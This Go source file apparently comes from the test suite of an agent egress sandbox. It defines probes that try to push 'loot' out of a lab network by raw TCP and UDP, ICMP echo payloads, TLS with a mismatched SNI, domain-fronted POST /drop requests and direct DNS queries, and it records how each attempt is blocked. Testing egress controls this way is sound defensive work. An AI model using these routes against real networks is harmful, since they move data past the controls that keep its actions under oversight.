package killchain

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"syscall"

	"github.com/miekg/dns"

	"github.com/bulkhead-dev/bulkhead/tests/lab"
)

// probe is one thing that an agent does, and what it sees of it.
type probe = func(context.Context, *attack) seen

// get fetches a URL as an ordinary client would, names and certificates included.
func get(url string) probe { return request(http.MethodGet, url, "") }

// post sends a body to a URL.
func post(url, body string) probe { return request(http.MethodPost, url, body) }

func request(method, url, body string) probe {
	return func(ctx context.Context, a *attack) seen {
		req, err := http.NewRequestWithContext(ctx, method, url, strings.NewReader(body))
		if err != nil {
			return failed(err)
		}
		resp, err := a.agent.HTTPClient(a.lab).Do(req)
		// A client sees only that a name does not resolve; the person at the table wants
		// to know what the resolver said.
		if unresolved := new(net.DNSError); errors.As(err, &unresolved) {
			return resolve(req.URL.Hostname())(ctx, a)
		}
		if err != nil {
			return failed(err)
		}
		defer resp.Body.Close()
		return answered(resp)
	}
}

func answered(resp *http.Response) seen {
	body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
	if err != nil {
		return failed(err)
	}
	if resp.StatusCode == http.StatusOK {
		return seen{reached: true, what: "200 OK"}
	}
	var denial struct{ Error string }
	if json.Unmarshal(body, &denial) == nil && denial.Error != "" {
		return seen{what: fmt.Sprintf("%d, %q", resp.StatusCode, denial.Error)}
	}
	return seen{what: resp.Status}
}

// connect opens a TCP connection and sends the loot.
func connect(to netip.Addr, port uint16) probe {
	return func(ctx context.Context, a *attack) seen {
		conn, err := a.agent.Dial(ctx, "tcp", netip.AddrPortFrom(to, port).String())
		if err != nil {
			return failed(err)
		}
		defer conn.Close()
		stop := bound(ctx, conn)
		defer stop()
		if _, err := io.WriteString(conn, loot); err != nil {
			return failed(err)
		}
		if _, err := conn.Read(make([]byte, 1)); err != nil && !errors.Is(err, io.EOF) {
			return failed(err)
		}
		return seen{reached: true, what: "connected"}
	}
}

// datagram sends the loot in one and waits for the echo or the refusal.
func datagram(to netip.Addr, port uint16) probe {
	return exchange("udp", netip.AddrPortFrom(to, port).String(), []byte(loot))
}

// postgres asks a database whether it speaks TLS, which is what every client asks first
// (SSLRequest in PostgreSQL's protocol 3.0).
func postgres(at netip.Addr) probe {
	return exchange("tcp", netip.AddrPortFrom(at, 5432).String(), []byte{0, 0, 0, 8, 4, 210, 22, 47})
}

// ping sends an ICMP echo request (RFC 792) that carries loot.
func ping(to netip.Addr) probe {
	return func(ctx context.Context, a *attack) seen {
		msg := append([]byte{8, 0, 0, 0, 0x42, 0x48, 0, 1}, loot...)
		if len(msg)%2 == 1 {
			msg = append(msg, 0)
		}
		var sum uint32
		for i := 0; i < len(msg); i += 2 {
			sum += uint32(msg[i])<<8 | uint32(msg[i+1])
		}
		for sum>>16 != 0 {
			sum = sum>>16 + sum&0xffff
		}
		msg[2], msg[3] = byte(^sum>>8), byte(^sum)
		var conn net.Conn
		err := a.agent.Do(func() (err error) {
			conn, err = net.Dial("ip4:icmp", to.String())
			return err
		})
		if err != nil {
			return failed(err)
		}
		return converse(ctx, conn, msg)
	}
}

func exchange(network, addr string, msg []byte) probe {
	return func(ctx context.Context, a *attack) seen {
		conn, err := a.agent.Dial(ctx, network, addr)
		if err != nil {
			return failed(err)
		}
		return converse(ctx, conn, msg)
	}
}

func converse(ctx context.Context, conn net.Conn, msg []byte) seen {
	defer conn.Close()
	stop := bound(ctx, conn)
	defer stop()
	if _, err := conn.Write(msg); err != nil {
		return failed(err)
	}
	if _, err := conn.Read(make([]byte, 2048)); err != nil {
		return failed(err)
	}
	return seen{reached: true, what: "an answer"}
}

// hello shakes hands with TLS for a name at an address of the attacker's choice, after
// asking for the permitted name as any client would.
func hello(to netip.Addr, sni string) probe {
	return func(ctx context.Context, a *attack) seen {
		if got := resolve(lab.ToolName)(ctx, a); !got.reached {
			return got
		}
		conn, err := a.agent.Dial(ctx, "tcp", netip.AddrPortFrom(to, 443).String())
		if err != nil {
			return failed(err)
		}
		defer conn.Close()
		client := tls.Client(conn, &tls.Config{ServerName: sni, RootCAs: a.lab.Roots()})
		if err := client.HandshakeContext(ctx); err != nil {
			return failed(err)
		}
		return seen{reached: true, what: "TLS handshake"}
	}
}

// fronted sends a plain request for a host to the address of another.
func fronted(to netip.Addr, host string) probe {
	return func(ctx context.Context, a *attack) seen {
		if got := resolve(lab.MirrorName)(ctx, a); !got.reached {
			return got
		}
		conn, err := a.agent.Dial(ctx, "tcp", netip.AddrPortFrom(to, 80).String())
		if err != nil {
			return failed(err)
		}
		defer conn.Close()
		stop := bound(ctx, conn)
		defer stop()
		fmt.Fprintf(conn, "POST /drop HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", host, len(loot), loot)
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			return failed(err)
		}
		defer resp.Body.Close()
		return answered(resp)
	}
}

// resolve asks the resolver that the agent was given.
func resolve(name string) probe {
	return func(ctx context.Context, a *attack) seen { return lookup(name, a.lab.NextHop())(ctx, a) }
}

// lookup asks a resolver for an address.
func lookup(name string, at netip.Addr) probe { return ask("udp", name, at) }

// lookupTCP asks over TCP.
func lookupTCP(name string, at netip.Addr) probe { return ask("tcp", name, at) }

func ask(network, name string, at netip.Addr) probe {
	return func(ctx context.Context, a *attack) seen {
		conn, err := a.agent.Dial(ctx, network, netip.AddrPortFrom(at, 53).String())
		if err != nil {
			return failed(err)
		}
		defer conn.Close()
		stop := bound(ctx, conn)
		defer stop()
		m := new(dns.Msg).SetQuestion(dns.Fqdn(name), dns.TypeA)
		m.SetEdns0(1232, false)
		r, _, err := new(dns.Client).ExchangeWithConnContext(ctx, m, &dns.Conn{Conn: conn})
		if err != nil {
			return failed(err)
		}
		if r.Rcode == dns.RcodeSuccess && len(r.Answer) > 0 {
			return seen{reached: true, what: fmt.Sprintf("%d records", len(r.Answer))}
		}
		what := dns.RcodeToString[r.Rcode]
		if opt := r.IsEdns0(); opt != nil {
			for _, o := range opt.Option {
				if ede, ok := o.(*dns.EDNS0_EDE); ok {
					what += " " + dns.ExtendedErrorCodeToString[ede.InfoCode]
				}
			}
		}
		return seen{what: what}
	}
}

// bound has a connection fail when ctx ends.
func bound(ctx context.Context, conn net.Conn) (stop func()) {
	if d, ok := ctx.Deadline(); ok {
		conn.SetDeadline(d)
	}
	cancel := context.AfterFunc(ctx, func() { conn.Close() })
	return func() { cancel() }
}

// failed puts an error in the words of a table.
func failed(err error) seen {
	var timeout net.Error
	// crypto/tls has no exported type for an alert outside QUIC.
	if _, alert, ok := strings.Cut(err.Error(), "remote error: tls: "); ok {
		return seen{what: "TLS alert, " + alert}
	}
	switch {
	case errors.Is(err, syscall.ECONNREFUSED):
		return seen{what: "connection refused"}
	case errors.Is(err, syscall.ECONNRESET):
		return seen{what: "connection reset"}
	case errors.Is(err, syscall.EHOSTUNREACH), errors.Is(err, syscall.EACCES):
		return seen{what: "ICMP prohibited"}
	case errors.Is(err, io.EOF), errors.Is(err, io.ErrUnexpectedEOF):
		return seen{what: "closed"}
	case errors.Is(err, context.DeadlineExceeded), errors.As(err, &timeout) && timeout.Timeout():
		return seen{silent: true, what: "silence"}
	}
	return seen{what: err.Error()}
}
